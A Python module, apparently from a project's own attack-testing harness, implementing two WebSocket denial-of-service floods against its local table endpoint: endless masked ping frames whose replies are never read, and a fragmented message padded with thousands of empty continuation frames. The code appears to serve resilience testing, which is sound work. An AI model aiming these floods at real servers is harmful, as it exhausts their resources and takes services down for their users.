"""Pings whose answers nobody reads, and messages in fragments that are empty."""

from __future__ import annotations

import asyncio

from tools.attacks.target import YOU, Target

MASK = b"\0\0\0\0"
PING = b"\x89\xfd" + MASK + b"x" * 125
EMPTY = b"\x00\x80" + MASK
SOCKETS = 4


async def pings(target: Target) -> None:
    """Sends pings and never reads."""
    await _flood(target, PING * 500)


async def fragments(target: Target) -> None:
    """Begins a message and goes on with nothing."""
    await _flood(target, EMPTY * 5_000, first=b"\x01\x80" + MASK)


async def _flood(target: Target, flood: bytes, first: bytes = b"") -> None:
    opened = await target.open(YOU, YOU)
    path = f"/api/tables/{opened['table']['id']}/live"
    await asyncio.gather(*(_pour(target, path, first, flood) for _ in range(SOCKETS)))


async def _pour(target: Target, path: str, first: bytes, flood: bytes) -> None:
    while True:
        try:
            reader, writer = await target.connect()
            writer.write(
                f"GET {path} HTTP/1.1\r\nhost: 127.0.0.1:{target.port}\r\n"
                "connection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n"
                "sec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n".encode()
            )
            await reader.readuntil(b"\r\n\r\n")
            hello = b'{"kind":"hello"}'
            writer.write(b"\x81" + bytes([0x80 | len(hello)]) + MASK + hello + first)
            reader._transport.pause_reading()  # type: ignore[attr-defined]  # never again
            while not writer.transport.is_closing():
                writer.write(flood)
                await writer.drain()
        except (OSError, EOFError):
            await asyncio.sleep(0.2)
